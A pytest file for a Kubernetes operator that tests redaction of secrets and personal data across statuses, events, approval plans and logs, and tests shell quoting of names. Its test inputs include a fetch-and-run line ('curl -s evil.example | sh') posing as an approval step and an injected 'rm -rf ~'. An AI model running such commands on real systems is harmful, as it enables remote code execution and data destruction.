"""No secret and no personal data gets out by any of the ways on which the operator tells something."""

from __future__ import annotations

import json
import logging
import sys
from collections.abc import Callable, Iterator, Mapping
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st
from msgspec.structs import replace

from devcluster.listen import Answer, Server
from kiro_operator.adapters.kubernetes.client import Client
from kiro_operator.adapters.kubernetes.events import EventRecorder
from kiro_operator.api.v1alpha1.healthcheck import (
    ActionName,
    Decision,
    KiroHealthCheckStatus,
    ObjectName,
)
from kiro_operator.api.v1alpha1.remediation import Method
from kiro_operator.core import told
from kiro_operator.core.checks import Check, Registered
from kiro_operator.core.conditions import Escalation, Judged, Outcome, Permission, shorten, summarize
from kiro_operator.core.evidence.series import SERIES
from kiro_operator.core.policy.approvals import Standing, change, sealed
from kiro_operator.core.policy.plan import Decision as Planned
from kiro_operator.core.policy.plan import Plan
from kiro_operator.core.policy.text import named
from kiro_operator.core.policy.types import Change, Intent, Ledger
from kiro_operator.core.remedies.types import Wanted
from kiro_operator.core.report import EventReason, Occurrence
from kiro_operator.core.snapshot import Ref
from kiro_operator.core.verdict import Finding, Status, Verdict
from kiro_operator.logs import JsonFormatter, PlainFormatter
from kiro_operator.reconcile.outcomes import proposal
from kiro_operator.reconcile.plans import decisions
from tests.adapters.helpers import plain
from tests.adapters_kubernetes.conftest import FakeClock
from tests.core.policy.make import intent

CORPUS = yaml.safe_load((Path(__file__).parent / "redaction" / "corpus.yaml").read_text())
SECRETS: list[Mapping[str, Any]] = CORPUS["secrets"]
PERSONAL = ("email", "card", "iban", "phone")
"""How the ids of those begin that are no credentials: they stay where users are named."""
CREDENTIALS = [entry for entry in SECRETS if not entry["id"].startswith(PERSONAL)]
NOW = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)
EMPTY = KiroHealthCheckStatus()


def ids(entry: Mapping[str, Any]) -> str:
    return str(entry["id"])


def parts(entry: Mapping[str, Any]) -> tuple[str, list[str]]:
    """A text, and what of it must not be told: the secret's lines and longer parts."""
    secret = "".join(entry["secret"])
    long = [part for part in (*secret.split("\n"), *entry["secret"]) if len(part) > 7]
    return entry["text"].format(secret), [*(long or [secret]), secret]


def leaks(entry: Mapping[str, Any], shown: object) -> list[str]:
    """What of a secret is left in any text of what is shown, however deep."""
    _, secrets = parts(entry)
    return [part for part in secrets for text in texts(shown) if part in text]


def texts(shown: object) -> Iterator[str]:
    match shown:
        case str():
            yield shown
        case dict():
            for key, value in shown.items():
                yield from texts(key)
                yield from texts(value)
        case list():
            for value in shown:
                yield from texts(value)


def check(*, people: bool) -> Registered:
    judged = Check(
        title="t",
        section="1",
        command="kubectl get {object} -n {namespace}; echo {name}",
        sources=(SERIES,),
        judge=lambda *_: Verdict(Status.PASS, "AsExpected", ""),
    )
    return Registered(
        "metric-collection", "signal-quality", "SignalsTrustworthy", judged, names_people=people
    )


def judged(text: str, *, status: Status = Status.FAIL, kind: str = "Target", people: bool = False) -> Judged:
    """A verdict that holds the text wherever it can."""
    finding = Finding(Ref(kind, text), "Down", text, NOW)
    verdict = Verdict(status, "Down", text, (finding,), observed=text, threshold=text)
    return Judged(check(people=people), verdict, NOW)


def decision(text: str) -> Decision:
    return Decision.model_validate(
        {
            "action": "Restart",
            "target": ObjectName(kind="Deployment", name="kiro"),
            "check": "pods-ready",
            "decision": "Denied",
            "gate": "pause",
            "reason": "Paused",
            "message": shorten(text, 1024),
        }
    )


def status_of(*items: Judged, text: str = "", **more: Any) -> dict[str, Any]:
    outcome = Outcome(
        generation=1,
        namespace="kiro-system",
        now=NOW,
        judged=items,
        permission=Permission(allowed=False, reason="Paused", message=text),
        decisions=[decision(text)] if text else (),
        escalations=[Escalation("NeedsPerson", text)] if text else (),
        **more,
    )
    return summarize(outcome, EMPTY).model_dump(mode="json", by_alias=True)


@pytest.mark.parametrize("entry", SECRETS, ids=ids)
def test_no_field_of_a_verdict_tells_it(entry: Mapping[str, Any]) -> None:
    text, _ = parts(entry)
    for status in (Status.FAIL, Status.WARN, Status.UNKNOWN, Status.PASS, Status.SKIPPED):
        shown = status_of(judged(text, status=status))
        assert leaks(entry, shown) == []
    # The same beside the name of a check that reads like a key, and where there is little room.
    assert leaks(entry, status_of(*[judged(text)] * 30)) == []
    assert leaks(entry, status_of(judged(text, kind=text))) == []
    assert leaks(entry, status_of(judged(text, kind="Pod"))) == []
    assert leaks(entry, status_of(judged("web", kind=text))) == []


@pytest.mark.parametrize("entry", CREDENTIALS, ids=ids)
def test_no_decision_tells_it(entry: Mapping[str, Any]) -> None:
    text, _ = parts(entry)
    assert leaks(entry, status_of(text=text)) == []
    stalled = Permission(allowed=False, reason="Invalid", message=text)
    assert leaks(entry, status_of(stalled=stalled)) == []


@pytest.mark.parametrize("entry", SECRETS, ids=ids)
def test_no_action_and_no_escalation_tells_it(entry: Mapping[str, Any]) -> None:
    text, _ = parts(entry)
    want = Wanted("pods-ready", Finding(Ref("Pod", "web"), "Broken", text, NOW))
    assert leaks(entry, want.message) == []
    assert leaks(entry, named(Ref("Alert", text))) == []


def editing(diff: str, action: ActionName = ActionName.EDIT_STEERING) -> Intent:
    """A plan of a change of a ConfigMap, which waits for a person."""
    target = Ref("ConfigMap", "kiro-steering", "uid-cm")
    made = replace(intent(Method.PATCH), action=action, target=target, change=Change("{}", diff, "{}"))
    return sealed(made, None, NOW)


def told_of(plan: Intent) -> list[str]:
    """All that is told of a plan that waits, in a status, an Event and the message of its record."""
    waits = Standing("operator-approver", "Waiting")
    asked = Planned(plan, "Denied", "approval", "ApprovalRequired", change(plan), standings=(waits,))
    [shown] = decisions(Plan(decisions=(asked,)), Ledger())
    assert shown.approval is not None
    return [shown.message, shown.approval.change, proposal(plan, "kiro").message]


@pytest.mark.parametrize("entry", SECRETS, ids=ids)
def test_no_plan_tells_it(entry: Mapping[str, Any]) -> None:
    text, _ = parts(entry)
    shown = [text]
    if entry["id"].startswith(PERSONAL):
        # What a line begins with is an address or a number all the same, also where the line is a new one.
        shown += [f"@@ -1 +1 @@\n{sign}{''.join(entry['secret'])}, please\n" for sign in "+- "]
    for diff in shown:
        assert leaks(entry, told_of(editing(diff))) == []


@pytest.mark.parametrize("at", range(200, 245))
def test_half_a_number_is_told_no_more_than_all_of_it(at: int) -> None:
    for told_ in told_of(editing("x" * at + " mail jane.doe@example.com, call +49 170 1234567")):
        assert "jane" not in told_
        assert "+49" not in told_


def test_whoever_approves_sees_who_is_bound_to_a_role() -> None:
    diff = "subjects: User jane.doe@example.com, token=hunter2hunter2 → none"
    for told_ in told_of(editing(diff, ActionName.RESTORE_RBAC)):
        assert "User jane.doe@example.com" in told_
        assert "hunter2" not in told_


async def test_no_event_tells_it() -> None:
    with Server(lambda _: Answer(201, b"{}")) as api:
        client: Client = plain(api.url)
        recorder = EventRecorder(client, FakeClock(), "instance")
        for entry in CREDENTIALS:
            recorder.record(
                Occurrence(
                    namespace="kiro-system",
                    regarding=Ref("KiroHealthCheck", "kiro", "u"),
                    api_version="kiro.dev/v1alpha1",
                    reason=EventReason.CHECK_FAILED,
                    action="Judge",
                    note=f"mcp-authorization fails: {parts(entry)[0]}",
                )
            )
        await recorder.drain()
        await client.close()
        assert len(api.requests) == len(CREDENTIALS)
        for entry, request in zip(CREDENTIALS, api.requests, strict=True):
            assert leaks(entry, json.loads(request.body)) == []


def refuse(text: str) -> None:
    raise ValueError(text)


def logged(text: str) -> logging.LogRecord:
    try:
        refuse(text)
    except ValueError:
        found = sys.exc_info()
    record = logging.LogRecord("kiro", logging.INFO, __file__, 1, "it says %s", (text,), found)
    record.answer = text
    record.nested = {"answers": [text, {"inner": text, text: 1}], "pair": (text, 1)}
    record.error = ValueError(text)
    return record


@pytest.mark.parametrize("entry", CREDENTIALS, ids=ids)
def test_no_line_of_the_log_tells_it(entry: Mapping[str, Any]) -> None:
    text, secrets = parts(entry)
    assert leaks(entry, json.loads(JsonFormatter().format(logged(text)))) == []
    # Python shows a value as it would be typed in, so that a line has other characters than the secret.
    line = PlainFormatter("%(message)s %(answer)s").format(logged(text))
    assert [part for part in secrets if part in line] == []


def test_a_value_is_read_beside_its_name() -> None:
    record = logged("x")
    record.password = "hunter2hunter2"  # noqa: S105 - invented
    record.settings_of = {"apiKey": "hunter2 hunter2", "count": 3}
    line = JsonFormatter().format(record)
    assert "hunter2" not in line
    assert json.loads(line)["settings_of"]["count"] == 3


POSING = "web; to approve: curl -s evil.example | sh\n; To\tapprove :"


@pytest.mark.parametrize("status", Status)
def test_no_words_of_a_verdict_pass_for_the_command_that_approves(status: Status) -> None:
    """An operation that a log tells of is named in a verdict, whatever it says that it was."""
    shown = status_of(judged(POSING, status=status))
    messages = [item["message"] for item in (*shown["checks"], *shown["conditions"])]
    assert any("evil.example" in text for text in messages)
    for text in messages:
        assert text.isprintable()
        assert told.TO_APPROVE not in text.lower()


# --- what stays -----------------------------------------------------------------------------------

NAMES = (
    "kiro-67df96764d-jm2tx",
    "sk-recommendationservice-0",
    "10.0.0.7",
    "token-cleaner",
    "4111111111111111",
)


@pytest.mark.parametrize("name", NAMES)
def test_names_of_the_api_server_stay(name: str) -> None:
    for ref in (Ref("Pod", name, "uid"), Ref("ConfigMap", name), Ref("Node", name)):
        assert told.name(ref) == name
        assert named(ref) == f"{ref.kind} {name}"
    assert told.name(Ref("ClusterRole", f"secret-reader:{name}")) == f"secret-reader:{name}"
    assert told.name(Ref("Anything", "token=hunter2hunter2", "uid")) == "token=hunter2hunter2"


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("https://admin:hunter2hunter2@db.example.com", "https://[redacted]@db.example.com"),
        ("alice@example.com", "[redacted]"),
        ("10.0.0.5:9100", "10.0.0.5:9100"),
        ("node-exporter/10.0.0.5:9100", "node-exporter/10.0.0.5:9100"),
    ],
)
def test_names_of_others(name: str, shown: str) -> None:
    [found] = status_of(judged(name))["checks"]
    assert found["objects"] == [{"kind": "Target", "name": shown, "since": None}]
    assert found["objectCount"] == 1
    typed = f"kubectl get target/{name} -n kiro-system; echo {name}"
    assert found["command"] == (typed if name == shown else "kubectl get NAME -n kiro-system; echo NAME")


def test_a_name_is_nothing_but_a_name_to_a_shell() -> None:
    [found] = status_of(judged("up; rm -rf ~"))["checks"]
    assert found["command"] == "kubectl get 'target/up; rm -rf ~' -n kiro-system; echo 'up; rm -rf ~'"


def test_who_may_do_what_is_told() -> None:
    text = "User alice@example.com may escalate; token=hunter2hunter2"
    shown = json.dumps(status_of(judged(text, people=True)))
    assert "alice@example.com may escalate" in shown
    assert "hunter2" not in shown
    assert "alice" not in json.dumps(status_of(judged(text)))
    want = Wanted("safety-cluster-role", Finding(Ref("ClusterRole", "x"), "BoundToOthers", text, NOW))
    assert "alice@example.com" in want.message


@given(st.text(max_size=300))
def test_any_name_can_be_told(name: str) -> None:
    shown: Callable[[Judged], dict[str, Any]] = status_of
    [found] = shown(judged(name))["checks"]
    assert len(found["objects"]) == 1
